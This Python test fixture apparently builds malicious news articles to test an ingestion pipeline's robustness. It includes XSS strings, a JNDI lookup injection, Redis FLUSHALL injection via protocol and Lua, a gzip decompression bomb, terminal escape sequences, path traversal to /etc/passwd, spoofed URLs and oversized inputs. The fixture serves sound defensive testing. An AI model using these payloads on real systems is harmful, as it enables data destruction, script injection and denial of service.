"""Articles that mean harm: good in form, so that ingestion lets them through, or so large that it does not."""

from __future__ import annotations

import base64
import gzip
from typing import Any

SAID = "Nine people were killed in the bridge fire in Kelmoor on Monday, the coastguard said."
LIMIT = 199_000
"""Characters that still fit into an article next to `SAID`."""


def filled(piece: str) -> str:
    """As many of `piece` as an article may have."""
    return SAID + "\n\n" + piece * (LIMIT // len(piece))


TEXTS: dict[str, str] = {
    "control characters": SAID.replace(" ", " \x01\x07\x08\x0b\x7f\x9f "),
    "terminal escapes": f"\x1b[2J\x1b]0;owned\x07\x1b[31m {SAID} \x1bP1$r\x1b\\\x9b5i",
    "turned direction": f"\u202e{SAID}\u2066\u200f\u061c",
    "nothing visible": SAID.replace(" ", " \u200b\u2060\ufeff\u00ad"),
    "HTML": f"<script>alert(1)</script><img src=x onerror=alert(1)><style>*{{display:none}}</style>{SAID}&#x1b;[31m",
    "markup of our own tables": f"[bold red]{SAID}[/] [link=file:///etc/passwd]x[/link] :warning:",
    "format strings": f"%s %n {{0}} {{self.__class__}} ${{jndi:ldap://a.example/x}} {SAID}",
    "the server's protocol": f"{SAID}\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "a script for the server": f"{SAID} ']]) redis.call('FLUSHALL') --",
    "a compressed bomb": SAID + "\n\n" + base64.b64encode(gzip.compress(b"0" * 10_000_000)).decode(),
    "nested JSON": filled('{"a":['),
    "a denied report in a word without end": f"{SAID} Holm denied reports in {'a' * 700}.",
    "nothing but denials": filled("Holm denied claims that he lied. "),
    "nothing but quotations": filled("The Herald quoted Ida Brandt as saying he lied. "),
    "nested parentheses": filled("("),
    "quotation marks": filled('"'),
    "opening quotation marks": filled("“"),
    "alternating quotation marks": filled("“ said ” \u2018"),
    "one long word": filled("a"),
    "one long number": filled("9"),
    "one long number with commas": filled("1,"),
    "a huge number": SAID.replace("Nine", "1" + "0" * 4000),
    "a huge power": SAID.replace("Nine", "9e999999999") + " It cost $1e400 and 10^10^10^10 euros.",
    "a tiny number": SAID.replace("Nine", "0." + "0" * 4000 + "1") + " It grew by 1/0 and -0.0%.",
    "odd digits": SAID.replace("Nine", "٩") + " ９ people, ¼ of them, Ⅸ, 九.",
    "combining marks": SAID + "\n\n" + "e" + "\u0301" * LIMIT,
    "line feeds": filled("\n"),
    "blanks": filled(" "),
    "only stops": filled(". "),
    "abbreviations without end": filled("U.S. "),
    "said, said, said": filled("said "),
    "he said she said": filled("he said that she said that "),
    "dates without end": filled("on Monday, March 3, 2025, "),
    "names without end": filled("John Smith of Kelmoor, "),
    "numbers without end": filled("12 people, 13 dogs and 14% of "),
    "clauses without end": filled("which killed nine people "),
    "addresses without end": filled("https://a.example/b?c=d "),
    "hyphens": filled("-"),
    "slashes and stops": filled("1/2.3/"),
    "surrogates as letters": SAID + " \\ud800\\udfff \\u0000 \\x1b",
    "emoji": filled("👩‍👩‍👧‍👦"),
    "a private alphabet": filled("\ue000\U0010ffff"),
}
"""Each with one honest sentence, or without any."""

FIELDS: dict[str, dict[str, Any]] = {
    "escapes everywhere": {"title": "\x1b[2J\x1b]0;t\x07Fire", "byline": "\x1b[31mA B\x07", "section": "\x1b[0m", "id": "\x1b[1m"},
    "a title of 10^6 quotation marks": {"title": '"' * 1_000_000},
    "a text of 10^6 quotation marks": {"text": '"' * 1_000_000},
    "a byline without end": {"byline": "By A " * 30_000},
    "an outlet that is a pattern": {"outlet": "*"},
    "an outlet that is a key": {"outlet": "{p00}:state:ingestion:head"},
    "an outlet that climbs": {"outlet": "../../etc/passwd"},
    "an outlet in another script": {"outlet": "раураl.example"},
    "a path that climbs": {"url": "https://hostile.example/../../../etc/passwd%00"},
    "a user in the address": {"url": "https://harbourpost.example@hostile.example/a"},
    "an address with markup": {"url": "https://hostile.example/<script>[red]%1b%5b31m"},
    "tags without end": {"tags": ["a"] * 100_000},
    "a section without end": {"section": "s" * 150_000},
    "unknown fields, deep": {"more": [[[[[[{"a": {"b": [1e308] * 100}}]]]]]]},
    "a readmission that nobody ordered": {"readmit": "1-0"},
    "a number for a language": {"language": "\x1b[31m"},
}  # fmt: skip
"""What else an article may carry."""


def article(number: int, changes: dict[str, Any]) -> dict[str, Any]:
    """An article in wire form, with `changes`."""
    good = {"url": f"https://hostile.example/{number}", "title": "Fire", "text": SAID, "language": "en"}
    return {**good, "published_at": f"2025-03-03T{number // 60 % 24:02}:{number % 60:02}:00Z", **changes}


def articles() -> dict[str, dict[str, Any]]:
    """All of them, by what they try."""
    rows = {name: {"text": text} for name, text in TEXTS.items()} | FIELDS
    return {name: article(number, changes) for number, (name, changes) in enumerate(rows.items())}
